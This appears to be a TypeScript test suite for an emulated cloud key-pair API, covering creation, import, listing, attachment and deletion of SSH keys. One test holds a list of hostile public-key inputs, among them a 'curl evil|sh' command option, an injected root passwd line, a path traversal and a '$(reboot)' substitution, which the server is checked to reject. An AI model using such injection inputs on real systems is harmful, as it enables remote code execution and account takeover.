import assert from 'node:assert/strict';
import { createPrivateKey, createPublicKey } from 'node:crypto';
import { after, before, test } from 'node:test';
import { parseSshKey, rsaSshKey } from '../../src/rules/sshKeys.ts';
import { createNetworkWorld, idsOf, type Body, type Caller, type NetworkWorld } from './networkWorld.ts';

let world: NetworkWorld;
before(async () => {
  world = await createNetworkWorld();
});
after(() => world[Symbol.asyncDispose]());

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHcV9LebBzusxc7JDiRaFvRDNkXmqbzuF/L3Nv6iDH9d test@tongjing';

const importKey = (caller: Caller, keyPairName: string, parameters = {}): Promise<Body> =>
  caller.ecs('ImportKeyPair', { keyPairName, publicKeyBody: KEY, ...parameters });
const keyPairsOf = async (caller: Caller, parameters = {}): Promise<Body[]> =>
  (await caller.ecs('DescribeKeyPairs', parameters))['KeyPairs'].KeyPair;
const keyNameOf = async (instanceId: string): Promise<string | null> => {
  const { read } = world.world.parts.database;
  const row = await read
    .selectFrom('instances')
    .select('keyPairName')
    .where('id', '=', instanceId)
    .executeTakeFirstOrThrow();
  return row.keyPairName;
};

test('a key pair is made: the private key comes once and fits the public one', async () => {
  const caller = await world.caller();
  const made = await caller.ecs('CreateKeyPair', {
    keyPairName: 'packer_5f1c',
    resourceGroupId: 'rg-acfmxazb4ph6aiy',
    tag: [{ key: 'a', value: '1' }],
  });
  assert.match(made['KeyPairId'], /^ssh-bp1[0-9a-z]{17}$/);
  assert.equal(made['KeyPairName'], 'packer_5f1c');
  assert.match(made['PrivateKeyBody'], /^-----BEGIN PRIVATE KEY-----\n/);
  const privateKey = createPrivateKey(made['PrivateKeyBody']);
  assert.equal(privateKey.asymmetricKeyDetails?.modulusLength, 2048);
  const { n = '', e = '' } = createPublicKey(privateKey).export({ format: 'jwk' });
  const publicKey = rsaSshKey({ n: Buffer.from(n, 'base64url'), e: Buffer.from(e, 'base64url') });
  assert.equal(made['KeyPairFingerPrint'], publicKey.fingerprint);
  assert.match(made['KeyPairFingerPrint'], /^[0-9a-f]{32}$/);

  const body = await caller.ecs('DescribeKeyPairs', { keyPairName: 'packer_5f1c', includePublicKey: true });
  assert.deepEqual([body['TotalCount'], body['PageNumber'], body['PageSize']], [1, 1, 10]);
  const [shown] = body['KeyPairs'].KeyPair;
  assert.match(shown.CreationTime, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
  assert.partialDeepStrictEqual(shown, {
    KeyPairName: 'packer_5f1c',
    KeyPairFingerPrint: publicKey.fingerprint,
    PublicKey: publicKey.line,
    ResourceGroupId: 'rg-acfmxazb4ph6aiy',
    Tags: { Tag: [{ TagKey: 'a', TagValue: '1' }] },
  });
  const rows = await world.world.parts.database.read
    .selectFrom('keyPairs')
    .selectAll()
    .where('accountId', '=', caller.accountId)
    .execute();
  assert.ok(!JSON.stringify(rows).includes('PRIVATE'));
});

test('a public key is imported, and nothing but one', async () => {
  const caller = await world.caller();
  const body = await importKey(caller, 'mine');
  assert.deepEqual([body['KeyPairName'], body['KeyPairFingerPrint']], ['mine', parseSshKey(KEY)!.fingerprint]);
  assert.equal((await keyPairsOf(caller, { includePublicKey: true }))[0]!['PublicKey'], KEY);
  assert.equal((await keyPairsOf(caller))[0]!['PublicKey'], undefined);
  const hostile = [
    'ssh-rsa AAAA',
    `command="curl evil|sh" ${KEY}`,
    `${KEY}\n${KEY}`,
    `${KEY}\r\nroot::0:0::/:/bin/sh`,
    '-----BEGIN PUBLIC KEY-----',
    'ssh-dss AAAAB3NzaC1kc3MAAAAB',
    '../../etc/passwd',
    '$(reboot)',
  ];
  for (const publicKeyBody of hostile) {
    await world.refuses('InvalidPublicKeyBody.Malformed', 400, () => importKey(caller, 'bad', { publicKeyBody }));
  }
  await world.refuses('MissingParameter', 400, () => importKey(caller, 'bad', { publicKeyBody: undefined }));
});

for (const action of ['CreateKeyPair', 'ImportKeyPair']) {
  test(`${action}: names, tags, regions and the quota hold`, async () => {
    const caller = await world.caller();
    const make = (parameters: object) => () =>
      caller.ecs(action, {
        keyPairName: 'key',
        ...(action === 'ImportKeyPair' && { publicKeyBody: KEY }),
        ...parameters,
      });
    await make({})();
    await world.refuses('KeyPair.AlreadyExist', 400, make({}));
    await make({ regionId: 'cn-beijing' })();
    for (const keyPairName of ['k', '1key', 'http://key', 'key\n', `k${'e'.repeat(128)}`]) {
      await world.refuses('InvalidKeyPairName.Malformed', 400, make({ keyPairName }));
    }
    await world.refuses('MissingKeyPairName', 400, make({ keyPairName: undefined }));
    await world.refuses('InvalidRegionId.NotFound', 404, make({ regionId: 'cn-nowhere' }));
    await world.refuses('InvalidResourceGroup.NotFound', 404, make({ keyPairName: 'new', resourceGroupId: 'x' }));
    const tag = [{ key: 'acs:a', value: '1' }];
    await world.refuses('InvalidTagKey.Malformed', 400, make({ keyPairName: 'new', tag }));
    const { database, clock } = world.world.parts;
    const row = {
      accountId: caller.accountId,
      regionId: 'cn-hangzhou',
      fingerprint: '',
      publicKey: '',
      resourceGroupId: '',
    };
    await database.write(async (tx) => {
      for (let n = 1; n < 500; n++) {
        const name = `full-${n}`;
        await tx
          .insertInto('keyPairs')
          .values({ ...row, name, id: name, createdAt: clock.now() })
          .execute();
      }
    });
    await world.refuses('QuotaExceed.KeyPair', 403, make({ keyPairName: 'one-more' }));
  });
}

test('key pairs are filtered and paged, each account and region its own', async () => {
  const caller = await world.caller();
  const other = await world.caller();
  const key = rsaSshKey({ n: Buffer.alloc(256, 0xff), e: Buffer.from([3]) });
  await importKey(caller, 'web-1', { tag: [{ key: 'a', value: '1' }] });
  await importKey(caller, 'web-2', { publicKeyBody: key.line });
  await importKey(caller, 'db_1', { resourceGroupId: 'rg-db' });
  await importKey(other, 'web-1', { tag: [{ key: 'a', value: 'theirs' }] });
  const found = async (parameters: object) => idsOf(await keyPairsOf(caller, parameters), 'KeyPairName');
  assert.deepEqual(await found({}), ['db_1', 'web-1', 'web-2']);
  assert.deepEqual(await found({ keyPairName: 'web-1' }), ['web-1']);
  assert.deepEqual(await found({ keyPairName: 'web*' }), ['web-1', 'web-2']);
  assert.deepEqual(await found({ keyPairName: '*_1' }), ['db_1']);
  assert.deepEqual(await found({ keyPairName: 'absent' }), []);
  assert.deepEqual(await found({ keyPairFingerPrint: key.fingerprint }), ['web-2']);
  assert.deepEqual(await found({ tag: [{ key: 'a', value: '1' }] }), ['web-1']);
  assert.deepEqual(await found({ tag: [{ key: 'a', value: 'theirs' }] }), []);
  assert.deepEqual(await found({ resourceGroupId: 'rg-db' }), ['db_1']);
  assert.deepEqual(await found({ regionId: 'cn-beijing' }), []);
  const [shown] = await keyPairsOf(caller, { keyPairName: 'web-1' });
  assert.deepEqual(shown!['Tags'], { Tag: [{ TagKey: 'a', TagValue: '1' }] });
  const pages = [await found({ pageSize: 2 }), await found({ pageSize: 2, pageNumber: 2 })];
  assert.deepEqual(pages.flat().sort(), ['db_1', 'web-1', 'web-2']);
  await world.refuses('InvalidParameter', 400, () => found({ pageSize: 51 }));
  await world.refuses('InvalidParameter', 400, () => found({ pageNumber: 0 }));
  await caller.ecs('DeleteKeyPairs', { keyPairNames: '["web-1"]' });
  assert.deepEqual((await keyPairsOf(other))[0]!['Tags'], { Tag: [{ TagKey: 'a', TagValue: 'theirs' }] });
});

test('key pairs go on instances and off again', async () => {
  const caller = await world.caller();
  await importKey(caller, 'old');
  await importKey(caller, 'new');
  const first = await world.instance(caller, { keyPairName: 'old' });
  const second = await world.instance(caller, { status: 'Stopped' });
  const names = (ids: string[]) => JSON.stringify(ids);
  const attached = await caller.ecs('AttachKeyPair', {
    keyPairName: 'new',
    instanceIds: names([first, second, 'i-missing', first]),
  });
  assert.deepEqual([attached['KeyPairName'], attached['TotalCount'], attached['FailCount']], ['new', '3', '1']);
  assert.deepEqual(attached['Results'].Result, [
    { InstanceId: first, Code: '200', Message: 'successful', Success: 'true' },
    { InstanceId: second, Code: '200', Message: 'successful', Success: 'true' },
    {
      InstanceId: 'i-missing',
      Code: 'InvalidInstanceId.NotFound',
      Message: 'The specified InstanceId does not exist.',
      Success: 'false',
    },
  ]);
  assert.deepEqual([await keyNameOf(first), await keyNameOf(second)], ['new', 'new']);
  await world.refuses('InvalidParameter.KeypairAlreadyAttachedInstance', 400, () =>
    caller.ecs('DeleteKeyPairs', { keyPairNames: names(['old', 'new']) }),
  );
  const wrong = await caller.ecs('DetachKeyPair', { keyPairName: 'old', instanceIds: names([first]) });
  assert.deepEqual([wrong['FailCount'], wrong['Results'].Result[0].Code], ['1', 'InvalidKeyPairName.NotFound']);
  const detached = await caller.ecs('DetachKeyPair', {
    keyPairName: 'new',
    instanceIds: names([first, second, 'i-missing']),
  });
  assert.deepEqual([detached['TotalCount'], detached['FailCount']], ['3', '1']);
  assert.deepEqual([await keyNameOf(first), await keyNameOf(second)], [null, null]);
  await caller.ecs('DeleteKeyPairs', { keyPairNames: names(['old', 'new', 'never-there']) });
  assert.deepEqual(await keyPairsOf(caller), []);
});

for (const action of ['AttachKeyPair', 'DetachKeyPair']) {
  test(`${action} is refused as a whole for what is wrong with it`, async () => {
    const caller = await world.caller();
    const other = await world.caller();
    await importKey(caller, 'key');
    await importKey(other, 'theirs');
    const linux = await world.instance(caller, { keyPairName: 'key' });
    const windows = await world.instance(caller, { osType: 'windows', keyPairName: 'key' });
    const call = (parameters: object) => () =>
      caller.ecs(action, { keyPairName: 'key', instanceIds: JSON.stringify([linux]), ...parameters });
    for (const instanceIds of [
      '[]',
      'i-1',
      '{}',
      '[1]',
      JSON.stringify(Array.from({ length: 51 }, (_, n) => `i-${n}`)),
    ]) {
      await world.refuses('InvalidInstanceIds.ValueNotSupported', 400, call({ instanceIds }));
    }
    await world.refuses('InvalidKeyPairName.NotFound', 400, call({ keyPairName: 'absent' }));
    await world.refuses('InvalidKeyPairName.NotFound', 400, call({ keyPairName: 'theirs' }));
    await world.refuses('InvalidKeyPairName.NotFound', 400, call({ regionId: 'cn-beijing' }));
    await world.refuses('InvalidRegionId.NotFound', 404, call({ regionId: 'cn-nowhere' }));
    const both = JSON.stringify([linux, windows]);
    await world.refuses('DependencyViolation.WindowsInstance', 403, call({ instanceIds: both }));
    await world.refuses('MissingInstanceIds', 400, call({ instanceIds: undefined }));
    await world.refuses('MissingKeyPairName', 400, call({ keyPairName: undefined }));
    const foreign = await world.instance(other, { keyPairName: 'key' });
    const answer = await call({ instanceIds: JSON.stringify([foreign]) })();
    assert.equal(answer['FailCount'], '1');
    assert.equal(await keyNameOf(foreign), 'key');
  });
}

test('instances of the first generation that are not I/O-optimised take no key pair', async () => {
  const caller = await world.caller();
  await importKey(caller, 'key');
  const old = await world.instance(caller, { instanceType: 'ecs.t1.small', ioOptimized: 0 });
  const attach = () => caller.ecs('AttachKeyPair', { keyPairName: 'key', instanceIds: JSON.stringify([old]) });
  await world.refuses('DependencyViolation.IoOptimize', 400, attach);
});

test('deleting key pairs is refused for what is wrong with it', async () => {
  const caller = await world.caller();
  const remove = (parameters: object) => () => caller.ecs('DeleteKeyPairs', { ...parameters });
  await world.refuses('MissingParameter', 400, remove({}));
  await world.refuses('MissingParameter', 400, remove({ regionId: undefined, keyPairNames: '["a"]' }));
  for (const keyPairNames of ['[]', 'key', '{"a":1}']) {
    await world.refuses('InvalidKeyPairNames.ValueNotSupported', 400, remove({ keyPairNames }));
  }
  await world.refuses('InvalidRegionId.NotFound', 404, remove({ regionId: 'x', keyPairNames: '["a"]' }));
});
